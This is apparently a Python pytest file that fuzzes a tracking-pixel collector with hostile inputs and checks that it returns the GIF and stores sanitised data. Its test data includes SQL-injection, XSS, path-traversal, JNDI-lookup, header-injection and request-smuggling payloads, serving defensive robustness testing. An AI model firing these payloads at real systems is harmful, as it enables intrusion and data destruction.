"""Hostile input on the pixel: whatever arrives, the GIF comes back and storage stays clean.

Two layers. Property-based (hypothesis) requests go through the real ASGI app as raw
ASGI scopes, so header values may hold any byte, NUL and CR/LF included, which no HTTP
client would send. A fixed fuzz corpus then goes over raw sockets to a real uvicorn
server, where httptools' own parser meets non-UTF-8 bytes, NUL, megabyte headers and
URLs, and thousands of cookies. In both, the pixel answers 200 with the GIF (or uvicorn
answers its own 4xx for requests HTTP itself rejects), nothing is logged as an error,
stored values are sanitised and capped, and ``PRAGMA integrity_check`` says ``ok``.
"""

from __future__ import annotations

import asyncio
import logging
import socket
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from collector.app import CollectorApp, create_app
from collector.pixel import GIF
from tests.conftest import GEOIP, IPHONE_UA, Server, make_settings, rows

SQL = "'; DROP TABLE hits; --"
SCRIPT = "<script>alert(document.cookie)</script>"
HOSTILE_TEXT = [
    SQL,
    "1' OR '1'='1",
    '" OR 1=1 --',
    "Robert'); DELETE FROM pixel_counts;--",
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "\x00\x01\x7f\x1b[31m",
    "\u202e\u0000\ufeff\U0001f4a9",
    "%00%ff%fe%c0%af%",
    "../../../../etc/passwd",
    "${jndi:ldap://evil/a}",
    "{{7*7}}",
]
HEADERS = (b"cookie", b"user-agent", b"referer", b"x-forwarded-for", b"forwarded")


# --- in-process: hypothesis through the real ASGI app ---------------------------------


async def call_pixel(
    app: CollectorApp, query: bytes, headers: list[tuple[bytes, bytes]]
) -> tuple[int, list[tuple[bytes, bytes]], bytes]:
    """One raw ASGI request to /p.gif; status, headers, body."""
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/p.gif",
        "raw_path": b"/p.gif",
        "query_string": query,
        "root_path": "",
        "headers": headers,
        "client": ("127.0.0.1", 40000),
        "server": ("testserver", 80),
    }
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: Any) -> None:
        sent.append(message)

    await app(scope, receive, send)
    start, body = sent[0], b"".join(m.get("body", b"") for m in sent[1:])
    return start["status"], list(start["headers"]), body


def granted(headers: list[tuple[bytes, bytes]]) -> bool:
    """The pixel treated the request as consented: it (re)set a live visitor cookie."""
    return any(
        k == b"set-cookie" and v.startswith(b"kdv_vid=") and b"Max-Age=0" not in v
        for k, v in headers
    )


def hostile_bytes(max_size: int = 600) -> st.SearchStrategy[bytes]:
    """Arbitrary bytes, mixed with known payloads so the interesting cases come early."""
    return st.one_of(
        st.binary(max_size=max_size),
        st.sampled_from([t.encode("utf-8", "surrogatepass") for t in HOSTILE_TEXT]),
        st.text(max_size=max_size).map(lambda t: t.encode("utf-8", "surrogatepass")),
        st.integers(1, 40_000).map(lambda n: b"A" * n),
    )


def hostile_query() -> st.SearchStrategy[bytes]:
    param = st.tuples(st.sampled_from([b"u", b"r", b"e", b"x", b""]), hostile_bytes())
    return st.lists(param, max_size=5).map(lambda ps: b"&".join(k + b"=" + v for k, v in ps))


class _Errors(logging.Handler):
    """Collects every record at ERROR or above (an unhandled exception logs one)."""

    def __init__(self) -> None:
        super().__init__(logging.ERROR)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


@pytest.fixture
def error_log() -> Iterator[_Errors]:
    handler = _Errors()
    root = logging.getLogger()
    root.addHandler(handler)
    yield handler
    root.removeHandler(handler)


def test_any_bytes_in_any_pixel_input_get_the_gif_and_clean_rows(
    tmp_path: Path, error_log: _Errors
) -> None:
    app = create_app(
        make_settings(
            tmp_path,
            geoip={"city_db": str(GEOIP / "GeoIP2-City-Test.mmdb")},
            privacy={"cookie_allowlist": ("ab_group",)},
            # Trust loopback so the hostile X-Forwarded-For / Forwarded values get parsed.
            server={"trusted_proxies": ("127.0.0.0/8",)},
        )
    )
    consent = f"kdv_consent={app.codec.encode(app.codec.issue(3))}".encode()
    loop = asyncio.new_event_loop()
    lifespan = app.lifespan(app.starlette)
    loop.run_until_complete(lifespan.__aenter__())
    consented = 0

    @settings(
        max_examples=1000,
        deadline=None,
        derandomize=True,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(
        query=hostile_query(),
        values=st.lists(st.tuples(st.sampled_from(HEADERS), hostile_bytes()), max_size=8),
        with_consent=st.booleans(),
    )
    def request(query: bytes, values: list[tuple[bytes, bytes]], with_consent: bool) -> None:
        nonlocal consented
        headers = [(b"user-agent", IPHONE_UA.encode()), *values]
        if with_consent:
            # The consent cookie rides in its own header, the hostile ones around it.
            headers.append((b"cookie", consent))
        status, response_headers, body = loop.run_until_complete(call_pixel(app, query, headers))
        assert status == 200 and body == GIF
        assert (b"content-type", b"image/gif") in response_headers
        # Counted by the answer: a hostile cookie header can legitimately hide the consent
        # (an earlier forged kdv_consent wins; past 16 KiB of cookies the rest is ignored).
        consented += granted(response_headers)

    try:
        request()
        loop.run_until_complete(app.writer.flush())
        assert app.writer.healthy
    finally:
        loop.run_until_complete(lifespan.__aexit__(None, None, None))
        loop.close()
    assert not error_log.records, [r.getMessage() for r in error_log.records]
    db = Path(app.settings.storage.path)
    assert_stored_values_clean(db, privacy=app.settings.privacy)
    stored = rows(db, "SELECT count(*) FROM hits")[0][0]
    # Every consented request is one row: nothing hostile made the writer drop a batch.
    assert stored == consented > 50


def assert_stored_values_clean(db: Path, privacy: Any) -> None:
    """Caps, no control characters, only http(s) URLs, a consistent database file."""
    conn = sqlite3.connect(db)
    try:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert conn.execute("PRAGMA foreign_key_check").fetchall() == []
        for (name,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
            assert name in {
                "hits",
                "pixel_counts",
                "schema_version",
                "api_tokens",
                "audit_log",
                "blocks",
            } or not name.startswith("hits")
        for row in conn.execute(
            "SELECT user_agent, page_url, referrer_url, placement_id, cookies, ip FROM hits"
        ):
            ua, page, ref, placement, cookies, ip = row
            assert len(ua) <= privacy.max_user_agent_length
            for url in (page, ref):
                if url is not None:
                    assert len(url) <= privacy.max_url_length
                    assert url.startswith(("http://", "https://"))
                    assert "<" not in url and ">" not in url and " " not in url
            assert placement is None or len(placement) <= 128
            assert cookies is None or len(cookies) <= 600
            for value in (ua, page, ref, placement, cookies, ip):
                assert value is None or not any(ord(c) < 32 or ord(c) == 127 for c in value)
        for (path,) in conn.execute("SELECT path FROM pixel_counts"):
            assert len(path) <= 256 and not any(ord(c) < 32 for c in path)
    finally:
        conn.close()


# --- on the wire: a fuzz corpus against a real uvicorn server -------------------------


def _corpus(consent: bytes) -> list[tuple[str, bytes]]:
    """(name, raw request) pairs; every request asks the server to close afterwards."""

    def req(target: bytes, *headers: bytes, method: bytes = b"GET") -> bytes:
        lines = [method + b" " + target + b" HTTP/1.1", b"Host: collector", *headers]
        return b"\r\n".join([*lines, b"Connection: close", b"", b""])

    page = b"/p.gif?u=https%3A%2F%2Fshop.kz%2Fa"
    c = b"Cookie: " + consent
    cases: list[tuple[str, bytes]] = [
        ("plain", req(page, c)),
        ("non-utf8 query", req(b"/p.gif?u=https://s.kz/\xff\xfe\x80&r=\xc0\xaf&e=\xed\xa0\x80", c)),
        ("bad percent escapes", req(b"/p.gif?u=%&r=%zz%f&e=%ff%00%0a%0d", c)),
        ("nul escaped in url", req(b"/p.gif?u=https%3A%2F%2Fs.kz%2F%00x%0d%0aSet-Cookie:a=b", c)),
        ("non-utf8 user agent", req(page, c, b"User-Agent: Mozilla/5.0 \xff\xfe\x80\x9b")),
        ("non-utf8 referer", req(b"/p.gif", c, b"Referer: https://s.kz/\xe9t\xe9\xff")),
        ("non-utf8 cookie", req(page, c + b"; x=\xff\xfe; kdv_vid=\xc3\x28")),
        ("non-utf8 xff", req(page, c, b"X-Forwarded-For: \xff, 1.2.3.4")),
        ("non-utf8 forwarded", req(page, c, b"Forwarded: for=\xff\xfe;proto=http")),
        ("nul in user agent", req(page, c, b"User-Agent: a\x00b")),
        ("nul in cookie", req(page, c + b"\x00")),
        ("nul in target", req(b"/p.gif?u=\x00", c)),
        ("control chars in ua", req(page, c, b"User-Agent: \x01\x02\x1b[31mred\x7f")),
        (
            "sql in every field",
            req(
                b"/p.gif?u=https://s.kz/'%3B%20DROP%20TABLE%20hits%3B--&e='%20OR%201=1--",
                c,
                b"User-Agent: '; DROP TABLE hits; --",
                b"Referer: https://s.kz/?q=' OR '1'='1",
                b"X-Forwarded-For: 1.1.1.1' OR 1=1--",
            ),
        ),
        (
            "script in every field",
            req(
                b"/p.gif?u=https://s.kz/%3Cscript%3Ealert(1)%3C/script%3E&e=%3Cscript%3E",
                c,
                b"User-Agent: <script>alert(1)</script>",
                b"Referer: javascript:alert(1)",
                b'Forwarded: for="<script>"',
            ),
        ),
        ("ipv6 and ports in forwarded", req(page, c, b'Forwarded: for="[::1]:80", for=_hidden')),
        ("huge xff", req(page, c, b"X-Forwarded-For: " + b"1.2.3.4, " * 20_000)),
        ("long url 64k", req(b"/p.gif?u=https://s.kz/" + b"a" * 65_536, c)),
        ("long url 1m", req(b"/p.gif?u=https://s.kz/" + b"a" * 1_000_000, c)),
        ("long user agent 64k", req(page, c, b"User-Agent: " + b"M" * 65_536)),
        ("long user agent 1m", req(page, c, b"User-Agent: " + b"M" * 1_000_000)),
        ("long referer 1m", req(b"/p.gif", c, b"Referer: https://s.kz/" + b"r" * 1_000_000)),
        (
            "5000 cookies in one header",
            req(page, c + b"; " + b"; ".join(b"c%d=%d" % (i, i) for i in range(5000))),
        ),
        (
            "3000 cookie headers",
            req(page, c, *(b"Cookie: c%d=%s" % (i, b"v" * 64) for i in range(3000))),
        ),
        ("consent cookie last of 3000", req(page, *(b"Cookie: c%d=v" % i for i in range(3000)), c)),
        ("duplicate consent cookies", req(page, b"Cookie: kdv_consent=forged; " + consent[12:])),
        ("huge cookie value", req(page, c + b"; kdv_vid=" + b"f" * 200_000)),
        ("many headers", req(page, c, *(b"X-H%d: v" % i for i in range(5000)))),
        ("header without colon", req(page, c, b"this is not a header")),
        ("obs-fold header", req(page, c, b"User-Agent: a", b" folded")),
        ("absolute-form target", req(b"http://collector/p.gif?u=https://s.kz/", c)),
        ("http/1.0", b"GET /p.gif HTTP/1.0\r\n" + c + b"\r\n\r\n"),
        ("head", req(page, c, method=b"HEAD")),
        ("post", req(page, c, b"Content-Length: 3", method=b"POST") + b"abc"),
        ("garbage method", req(page, c, method=b"G\xffT")),
        ("garbage request line", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 64),
        ("lf only", b"GET /p.gif HTTP/1.1\nHost: x\nConnection: close\n\n"),
        ("space in target", req(b"/p.gif?u=a b", c)),
        ("chunked get", req(page, c, b"Transfer-Encoding: chunked") + b"0\r\n\r\n"),
        (
            "smuggling cl+te",
            req(page, c, b"Content-Length: 4", b"Transfer-Encoding: chunked", method=b"POST")
            + b"0\r\n\r\n",
        ),
    ]
    return cases


def send_raw(port: int, data: bytes, timeout: float = 20.0) -> bytes:
    """Send ``data`` on a fresh connection and read until the server closes it."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        try:
            sock.sendall(data)
            sock.shutdown(socket.SHUT_WR)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server refused early; its answer (if any) is still readable
        chunks = []
        while True:
            try:
                chunk = sock.recv(65_536)
            except ConnectionResetError:
                break
            if not chunk:
                break
            chunks.append(chunk)
    return b"".join(chunks)


def status_of(response: bytes) -> int | None:
    if not response.startswith(b"HTTP/1."):
        return None
    return int(response.split(b" ", 2)[1])


@pytest.mark.slow
def test_fuzz_corpus_on_the_wire_gets_the_gif_or_a_clean_4xx(
    serve: Callable[..., Server], tmp_path: Path
) -> None:
    server = serve(
        env={
            "COLLECTOR_PRIVACY_COOKIE_ALLOWLIST": "ab_group",
            "COLLECTOR_STORAGE_FLUSH_INTERVAL_MS": "20",
            "COLLECTOR_SERVER_LOG_LEVEL": "debug",
        }
    )
    from tests.test_server import cookie_for

    consent = cookie_for(3).encode()
    outcomes: dict[str, int | None] = {}
    for name, raw in _corpus(consent):
        response = send_raw(server.port, raw)
        status = status_of(response)
        outcomes[name] = status
        assert status is not None and status < 500, (name, response[:200])
        if status == 200 and not raw.startswith((b"HEAD", b"POST")):
            head, _, body = response.partition(b"\r\n\r\n")
            assert body == GIF, name
            assert b"content-type: image/gif" in head.lower(), name
    print(outcomes)
    # Requests HTTP itself can carry must reach the pixel and get the image.
    must_be_gif = [
        "plain",
        "bad percent escapes",
        "non-utf8 user agent",
        "non-utf8 referer",
        "non-utf8 cookie",
        "sql in every field",
        "script in every field",
        "long user agent 64k",
        "5000 cookies in one header",
        "3000 cookie headers",
        "huge xff",
        "many headers",
    ]
    assert {n: outcomes[n] for n in must_be_gif} == dict.fromkeys(must_be_gif, 200)
    # The server still works, and then shuts down cleanly.
    assert status_of(send_raw(server.port, _corpus(consent)[0][1])) == 200
    server.stop()
    log = server.log.read_text(errors="replace")
    assert "Traceback" not in log and " ERROR " not in log and '"ERROR"' not in log, log[-3000:]
    db = tmp_path / "collector.db"
    assert_stored_values_clean(db, privacy=make_settings(tmp_path).privacy)
    # The table the SQL payloads aimed at is still there and holds the consented hits.
    assert rows(db, "SELECT count(*) FROM hits")[0][0] >= len(must_be_gif)


async def test_a_megabyte_request_queues_only_a_capped_hit(app: CollectorApp) -> None:
    # httptools passes megabyte headers through; the queue holds queue_size hits, so each
    # queued hit must be small whatever the request was, or one client could fill memory.
    queued: list[Any] = []
    put = app.writer.put_nowait

    def spy(item: Any) -> bool:
        queued.append(item)
        return put(item)

    app.writer.put_nowait = spy  # type: ignore[method-assign]
    consent = f"kdv_consent={app.codec.encode(app.codec.issue(3))}".encode()
    huge = b"x" * 1_000_000
    headers = [
        (b"cookie", consent + b"; ab=" + huge),
        *[(b"cookie", b"c=" + huge)] * 50,
        (b"user-agent", huge),
        (b"referer", b"https://s.kz/" + huge),
        (b"x-forwarded-for", huge),
        (b"forwarded", huge),
    ]
    status, _, body = await call_pixel(app, b"e=" + huge + b"&r=" + huge, headers)
    assert status == 200 and body == GIF
    (hit,) = queued
    assert sum(len(str(field)) for field in hit) < 40_000
